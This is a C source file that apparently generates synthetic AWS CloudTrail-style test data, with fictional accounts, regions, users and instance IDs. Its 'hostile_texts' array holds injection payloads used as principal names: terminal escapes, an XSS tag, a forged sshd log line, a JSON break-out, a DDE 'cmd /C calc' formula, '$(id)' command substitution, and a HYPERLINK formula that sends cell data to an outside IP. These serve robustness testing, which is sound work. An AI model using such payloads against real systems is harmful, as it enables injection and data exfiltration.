/* SPDX-License-Identifier: Apache-2.0 */
#include "tools/corpus/world.h"

#define START_US   (INT64_C(1772323200) * US_PER_SECOND) /* 2026-03-01T00:00:00Z */
#define BEAT_US    (30 * 60 * US_PER_SECOND)
#define HOLE_HOURS 30

static const struct {
	const char *account, *region;
} places[ROW_COUNT] = {
    {"111122223333", "eu-central-1"},
    {"444455556666", "eu-west-1"},
    {"111122223333", "us-east-1"},
    {"444455556666", "us-east-1"},
    [ROW_ENDS] = {"111122223333", "ap-southeast-2"},
    [ROW_BEGINS] = {"444455556666", "sa-east-1"},
    [ROW_HOLE] = {"111122223333", "eu-north-1"},
    [ROW_QUIET] = {"444455556666", "ap-south-1"},
    [ROW_ABSENT_REGION] = {"111122223333", "af-south-1"},
    [ROW_ABSENT_ACCOUNT] = {"777788889999", "us-west-2"},
};

static const char *const users[WORLD_USERS] = {
    "ec2-user",
    "ubuntu",
    "root",
    "admin",
    "svc.deploy",
    "a_user-with.a-long_name$",
};

static const char *const first_names[] = {"alice", "bob", "carol", "dave", "erin", "frank", "grace",
    "heidi", "ivan", "judy", "karl", "laura", "mallory", "niaj", "olivia", "peggy"};
#define NAME_COUNT (sizeof(first_names) / sizeof(first_names[0]))

static const char *const hostile_texts[WORLD_HOSTILE] = {
    "\x1b[2J\x1b[31mroot\x1b[0m",
    "=HYPERLINK(\"http://198.51.100.1/?\"&A1,\"x\")",
    "<script>alert('x')</script>\"><img src=x>",
    "line\rNov 22 06:22:40 host sshd[1]: Accepted publickey for root",
    ("\xe2\x80\xae"
     "evil\xe2\x80\xac \xc2\x9b"
     "31m \x7f\x01"),
    "\"},{\"eventName\":\"SendSSHPublicKey\",\"x\":\"\\",
    "+cmd|' /C calc'!A0, \t;|,%s%n$(id)`id`",
    "\xf0\x9f\x94\x91 Zo\xc3\xab @SUM(1+1) \xe6\xbc\xa2",
};

void
world_init(struct world *w, uint64_t seed, unsigned days, uint32_t per_row, bool odd_rows)
{
	int64_t end_us = START_US + days * US_PER_DAY;

	*w = (struct world){.seed = seed,
	    .start_us = START_US,
	    .end_us = end_us,
	    .per_row = per_row,
	    .people = WORLD_PEOPLE,
	    .odd_rows = odd_rows && days >= 4};
	for (int i = 0; i < ROW_COUNT; i++) {
		w->rows[i] = (struct world_row){.account = places[i].account,
		    .region = places[i].region,
		    .first_us = START_US - US_PER_HOUR,
		    .last_us = end_us + 2 * US_PER_HOUR,
		    .beat_us = BEAT_US};
		if (i >= WORLD_MAIN && !w->odd_rows)
			w->rows[i].last_us = 0;
	}
	w->rows[ROW_ABSENT_REGION].last_us = 0;
	w->rows[ROW_ABSENT_ACCOUNT].last_us = 0;
	if (!w->odd_rows)
		return;
	w->rows[ROW_ENDS].last_us = end_us;
	w->rows[ROW_BEGINS].first_us = START_US + US_PER_HOUR + 17 * US_PER_SECOND;
	w->rows[ROW_HOLE].hole_from_us = START_US + days * US_PER_DAY / 3;
	w->rows[ROW_HOLE].hole_to_us = w->rows[ROW_HOLE].hole_from_us + HOLE_HOURS * US_PER_HOUR;
	w->rows[ROW_QUIET].beat_us = 23 * US_PER_HOUR;
}

struct instance
world_bastion(const struct world *w, unsigned number)
{
	number %= w->bastions;
	return (struct instance){
	    (uint8_t)(number % WORLD_MAIN), INSTANCE_BASTION, (uint16_t)number};
}

uint32_t
world_instance_index(const struct world *w, struct instance i)
{
	if (i.class == INSTANCE_BASTION)
		return ROW_COUNT * INSTANCE_CLASSES * w->per_row + i.number;
	return (i.row * INSTANCE_CLASSES + i.class) * w->per_row + i.number;
}

uint32_t
world_instances(const struct world *w)
{
	return ROW_COUNT * INSTANCE_CLASSES * w->per_row + w->bastions;
}

char *
instance_id(struct instance i, char out[static INSTANCE_ID_LEN])
{
	uint64_t n = (uint64_t)i.row << 32 | (uint64_t)i.class << 24 | i.number;

	if (n == 0)
		snprintf(out, INSTANCE_ID_LEN, "i-0123456789abcdef0");
	else
		snprintf(out, INSTANCE_ID_LEN, "i-0%016llx", (unsigned long long)random_mix(n, 0));
	return out;
}

int64_t
world_session_begin(struct principal p, int64_t time_us)
{
	uint64_t second = random_mix(p.number, p.account) % (US_PER_HOUR / US_PER_SECOND);
	int64_t offset_us = (int64_t)second * US_PER_SECOND;

	return time_us - (time_us - START_US + US_PER_DAY - offset_us) % US_PER_HOUR;
}

const char *
world_user(unsigned number)
{
	return users[number];
}

enum principal_kind
principal_kind(struct principal p)
{
	if (p.hostile != 0)
		return PRINCIPAL_ROLE;
	return p.number % 4;
}

void
principal_put_name(struct principal p, struct buf *out)
{
	if (p.hostile != 0) {
		buf_puts(out, hostile_texts[p.hostile % WORLD_HOSTILE]);
		return;
	}
	buf_puts(out, first_names[p.number % NAME_COUNT]);
	buf_put_u64(out, p.number / NAME_COUNT);
	if (principal_kind(p) == PRINCIPAL_IDENTITY_CENTER)
		buf_puts(out, "@example.com");
}

void
principal_put_arn(const struct world *w, struct principal p, struct buf *out)
{
	static const char *const roles[] = {[PRINCIPAL_ROLE] = "Ops",
	    [PRINCIPAL_ROLE_OF_PATH] = "Break-Glass",
	    [PRINCIPAL_IDENTITY_CENTER] = "AWSReservedSSO_Administrator_0123456789abcdef"};
	enum principal_kind kind = principal_kind(p);

	if (kind == PRINCIPAL_USER)
		buf_printf(out, "arn:aws:iam::%s:user/", w->rows[p.account].account);
	else
		buf_printf(out, "arn:aws:sts::%s:assumed-role/%s/", w->rows[p.account].account,
		    roles[kind]);
	principal_put_name(p, out);
}

const char *
world_hostile(unsigned number)
{
	return hostile_texts[number % WORLD_HOSTILE];
}

char *
uuid_text(uint64_t seed, char out[static UUID_TEXT_LEN])
{
	static const char digits[] = "0123456789abcdef";
	uint8_t bytes[16];
	char *at = out;

	random_fill(seed, bytes, sizeof(bytes));
	bytes[6] = (bytes[6] & 0x0f) | 0x40;
	bytes[8] = (bytes[8] & 0x3f) | 0x80;
	for (size_t i = 0; i < sizeof(bytes); i++) {
		if (i == 4 || i == 6 || i == 8 || i == 10)
			*at++ = '-';
		*at++ = digits[bytes[i] >> 4];
		*at++ = digits[bytes[i] & 15];
	}
	*at = '\0';
	return out;
}
